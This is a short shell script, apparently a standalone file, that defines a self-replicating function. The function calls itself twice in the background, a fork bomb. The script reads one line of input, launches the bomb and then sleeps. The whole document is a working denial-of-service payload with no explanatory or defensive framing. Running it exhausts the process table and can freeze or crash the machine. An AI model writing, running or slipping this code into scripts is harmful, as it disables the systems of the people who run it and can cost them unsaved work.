#!/bin/sh
# It doubles until it may not.
bomb() { bomb | bomb & }
read -r line
bomb
sleep 60
